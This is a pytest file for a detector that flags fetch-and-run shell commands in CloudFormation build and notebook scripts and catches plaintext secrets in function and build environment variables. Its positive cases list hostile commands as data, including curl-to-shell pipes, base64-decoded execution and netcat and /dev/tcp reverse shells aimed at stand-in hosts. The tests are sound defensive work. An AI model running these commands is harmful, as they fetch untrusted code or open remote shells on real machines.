"""A text that fetches and runs something asks by a rule of its own, as does a plain secret."""

import base64
import time
from typing import Any

import pytest

from reviewer.changes.finding import Finding
from reviewer.changes.scripts import commands
from tests.reviewer.handmade import findings, one

BUILD, NOTEBOOK = "AWS::CodeBuild::Project", "AWS::SageMaker::NotebookInstanceLifecycleConfig"
FUNCTION = "AWS::Lambda::Function"


@pytest.mark.parametrize(
    "script",
    [
        "curl -sSL https://get.example.com | sh",
        "curl https://x.example | sudo bash -s -- -y",
        "wget -qO- https://x.example/a.py | python3 -",
        "bash <(curl -s https://x.example)",
        'sh -c "$(curl -fsSL https://x.example)"',
        "source <(wget -qO- https://x.example)",
        "curl -o a.sh https://x.example/a\nsh a.sh",
        "wget https://x.example/a && chmod +x a && ./a",
        "echo aGk= | base64 -d | sh",
        'eval "$SCRIPT"',
        "python -c \"exec(__import__('base64').b64decode('aGk='))\"",
        "pip install git+https://host.example/a/b",
        "pip install --index-url https://pypi.example/simple numpy",
        "pip3 install https://x.example/a.whl",
        "npm install --registry https://x.example a",
        "nc -e /bin/sh x.example 4444",
        "bash -i >& /dev/tcp/x.example/4444 0>&1",
    ],
)
def test_a_command_that_fetches_and_runs_is_found(script: str) -> None:
    assert list(commands(script))


@pytest.mark.parametrize(
    "script",
    [
        "pip install -r requirements.txt",
        "pip install --require-hashes -r requirements.lock",
        "docker build -t image . && docker push image",
        "aws s3 cp s3://bucket/key .",
        "curl -f http://localhost:8080/ping",
        "echo done | tee log",
        "python -c 'print(1)'",
        "base64 -d secret > key",
        "evaluate the model",
        "",
    ],
)
def test_a_command_that_runs_what_is_there_is_none(script: str) -> None:
    assert list(commands(script)) == []


def test_a_long_text_is_read_soon() -> None:
    start = time.process_time()
    for text in ("curl " * 20_000, "| sh " * 20_000, "a" * 100_000, "wget\n" * 20_000):
        list(commands(text))

    assert time.process_time() - start < 10


def named(kind: str, old: dict[str, Any] | None, new: dict[str, Any], rule: str) -> list[Finding]:
    return [item for item in findings(one(kind, old), one(kind, new)) if item.rule == rule]


def script(*lines: str) -> dict[str, Any]:
    return {"Source": {"BuildSpec": {"phases": {"build": {"commands": [*lines]}}}}}


def test_a_build_that_newly_fetches_and_runs_is_named_with_its_command() -> None:
    fetching = "curl https://x.example | sh"

    (found,) = named(BUILD, script("make"), script("make", fetching), "fetch-and-run")
    assert found.after == fetching
    assert "BuildSpec" in found.said
    assert named(BUILD, script(fetching), script(fetching, "make"), "fetch-and-run") == []
    assert len(named(BUILD, None, script(fetching), "fetch-and-run")) == 1


def test_a_script_in_base64_is_read() -> None:
    def start(text: str) -> dict[str, Any]:
        return {"OnStart": [{"Content": base64.b64encode(text.encode()).decode()}]}

    old, new = (
        start("#!/bin/sh\nset -e\necho ready\n"),
        start("wget -qO- https://x.example | bash\n"),
    )
    assert len(named(NOTEBOOK, old, new, "fetch-and-run")) == 1
    assert named(NOTEBOOK, new, old, "fetch-and-run") == []


def test_a_secret_in_plain_text_is_named_and_masked() -> None:
    secret = "hunter2-and-more"
    for old in (None, {}, {"Environment": {"Variables": {"DB_PASSWORD": "{{resolve:ssm:a}}"}}}):
        new = {"Environment": {"Variables": {"DB_PASSWORD": secret}}}
        (found,) = named(FUNCTION, old, new, "plain-secret")
        assert secret not in f"{found.said}{found.before}{found.after}"
    assert named(FUNCTION, {}, {"Environment": {"Variables": {"A": "b"}}}, "plain-secret") == []


def test_a_variable_of_a_build_goes_by_its_name() -> None:
    def variable(name: str) -> dict[str, Any]:
        return {"Environment": {"EnvironmentVariables": [{"Name": name, "Value": "hunter2-x"}]}}

    assert len(named(BUILD, {}, variable("API_TOKEN"), "plain-secret")) == 1
    assert named(BUILD, {}, variable("STAGE"), "plain-secret") == []
